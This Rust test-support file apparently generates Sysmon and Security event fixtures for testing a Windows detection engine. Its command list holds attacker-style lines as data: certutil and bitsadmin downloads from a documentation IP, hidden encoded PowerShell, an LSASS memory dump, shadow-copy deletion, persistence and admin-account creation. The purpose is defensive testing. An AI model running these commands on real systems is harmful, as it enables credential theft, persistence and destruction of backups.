//! A realistic Windows event set, shared by the differential test and the bench: the corpus
//! Winlogbeat and NXLog samples, flattened to dotted names as onewall's events are (with
//! Winlogbeat's `winlog.event_data.*`, `winlog.event_id` and `winlog.channel` also under the
//! bare Sysmon/Security names the rules use), plus generated Sysmon-shaped events.

use serde_json::{Map, Value, json};

/// The shared corpus's `formats` folder, beside the workspace (found from whichever crate's
/// tests include this file: the folder holding `Cargo.lock`, then `../shared`).
fn formats() -> std::path::PathBuf {
    let mut dir = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    while !dir.join("Cargo.lock").exists() && dir.pop() {}
    dir.join("../shared/corpus/formats")
}

/// Flatten nested objects to dotted keys (arrays are kept as values).
pub fn flatten(prefix: &str, v: &Value, out: &mut Map<String, Value>) {
    match v {
        Value::Object(m) => {
            for (k, v) in m {
                let key = if prefix.is_empty() {
                    k.clone()
                } else {
                    format!("{prefix}.{k}")
                };
                flatten(&key, v, out);
            }
        }
        other => {
            out.insert(prefix.to_owned(), other.clone());
        }
    }
}

/// One corpus line as a flat event, with Winlogbeat's Windows fields under their bare names.
fn corpus_event(v: &Value) -> Value {
    let mut flat = Map::new();
    flatten("", v, &mut flat);
    let promote: Vec<(String, Value)> =
        flat.iter()
            .filter_map(|(k, v)| {
                let bare = k.strip_prefix("winlog.event_data.").map(str::to_owned).or(
                    match k.as_str() {
                        "winlog.event_id" => Some("EventID".to_owned()),
                        "winlog.channel" => Some("Channel".to_owned()),
                        "winlog.provider_name" => Some("Provider_Name".to_owned()),
                        _ => None,
                    },
                )?;
                Some((bare, v.clone()))
            })
            .collect();
    for (k, v) in promote {
        flat.entry(k).or_insert(v);
    }
    Value::Object(flat)
}

/// The corpus Windows samples (empty when the corpus is absent).
pub fn corpus_events() -> Vec<Value> {
    let mut out = Vec::new();
    for file in ["windows-winlogbeat.ndjson", "windows-nxlog.ndjson"] {
        let Ok(text) = std::fs::read_to_string(formats().join(file)) else {
            continue;
        };
        for line in text.lines().filter(|l| l.starts_with('{')) {
            if let Ok(v) = serde_json::from_str::<Value>(line) {
                out.push(corpus_event(&v));
            }
        }
    }
    out
}

const IMAGES: &[&str] = &[
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\rundll32.exe",
    r"C:\Windows\System32\certutil.exe",
    r"C:\Windows\System32\reg.exe",
    r"C:\Windows\System32\schtasks.exe",
    r"C:\Windows\System32\wbem\WMIC.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Users\Public\svchost.exe",
    r"C:\Windows\System32\mshta.exe",
    r"C:\Windows\System32\net.exe",
    r"C:\Windows\System32\whoami.exe",
    r"C:\Windows\System32\vssadmin.exe",
    r"C:\Windows\System32\bitsadmin.exe",
    r"C:\Windows\System32\svchost.exe",
];

const COMMANDS: &[&str] = &[
    "cmd.exe /c whoami /all",
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\Public\\a.ps1",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
    "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe",
    "reg.exe add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe",
    "schtasks.exe /create /tn upd /tr C:\\Users\\Public\\u.exe /sc minute",
    "wmic.exe shadowcopy delete",
    "vssadmin.exe delete shadows /all /quiet",
    "net.exe user admin P@ss /add",
    "net.exe localgroup administrators admin /add",
    "bitsadmin.exe /transfer j http://203.0.113.9/p.exe C:\\p.exe",
    "mshta.exe vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run\")",
    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer",
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    "explorer.exe",
];

const TARGETS: &[&str] = &[
    r"C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk",
    r"C:\Windows\Temp\payload.dll",
    r"C:\Users\Public\a.ps1",
    r"C:\ProgramData\x.bat",
    r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x",
    r"HKLM\System\CurrentControlSet\Services\evil\ImagePath",
    r"C:\Windows\System32\lsass.exe",
];

const SECURITY_IDS: [u32; 3] = [4624, 4625, 4688];

const HOSTS: &[&str] = &[
    "ngrok.io",
    "pastebin.com",
    "update.microsoft.com",
    "example.org",
];

/// `n` generated Sysmon-shaped events over EventIDs 1, 3, 7, 8, 10, 11, 12, 13, 22 and
/// Security 4624/4625/4688, deterministic.
pub fn generated_events(n: usize) -> Vec<Value> {
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move |len: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % len as u64) as usize
    };
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        let image = IMAGES[next(IMAGES.len())];
        let parent = IMAGES[next(IMAGES.len())];
        let cmd = COMMANDS[next(COMMANDS.len())];
        let target = TARGETS[next(TARGETS.len())];
        let host = HOSTS[next(HOSTS.len())];
        let sysmon = "Microsoft-Windows-Sysmon/Operational";
        let ev = match i % 12 {
            0..=3 => json!({"EventID": 1, "Channel": sysmon, "Image": image,
                "CommandLine": cmd, "ParentImage": parent, "ParentCommandLine": parent,
                "User": "CORP\\bob", "IntegrityLevel": "High",
                "OriginalFileName": image.rsplit('\\').next().unwrap_or(image),
                "CurrentDirectory": "C:\\Users\\bob\\", "Hashes": "SHA256=AB12"}),
            4 => json!({"EventID": 3, "Channel": sysmon, "Image": image, "Initiated": "true",
                "DestinationIp": "203.0.113.9", "DestinationPort": 443 + next(3000),
                "DestinationHostname": host, "SourceIp": "10.0.0.5", "Protocol": "tcp"}),
            5 => json!({"EventID": 7, "Channel": sysmon, "Image": image,
                "ImageLoaded": target, "Signed": "false"}),
            6 => json!({"EventID": 8, "Channel": sysmon, "SourceImage": image,
                "TargetImage": parent, "StartModule": target}),
            7 => json!({"EventID": 10, "Channel": sysmon, "SourceImage": image,
                "TargetImage": r"C:\Windows\system32\lsass.exe", "GrantedAccess": "0x1010",
                "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(0000)"}),
            8 => json!({"EventID": 11, "Channel": sysmon, "Image": image,
                "TargetFilename": target}),
            9 => json!({"EventID": 13, "Channel": sysmon, "EventType": "SetValue",
                "Image": image, "TargetObject": target, "Details": cmd}),
            10 => json!({"EventID": 22, "Channel": sysmon, "Image": image,
                "QueryName": host, "QueryStatus": "0"}),
            _ => json!({"EventID": SECURITY_IDS[next(3)], "Channel": "Security",
                "TargetUserName": "admin", "SubjectUserName": "bob", "LogonType": next(12),
                "IpAddress": "10.0.0.7", "NewProcessName": image, "CommandLine": cmd,
                "ProcessName": parent}),
        };
        out.push(ev);
    }
    out
}
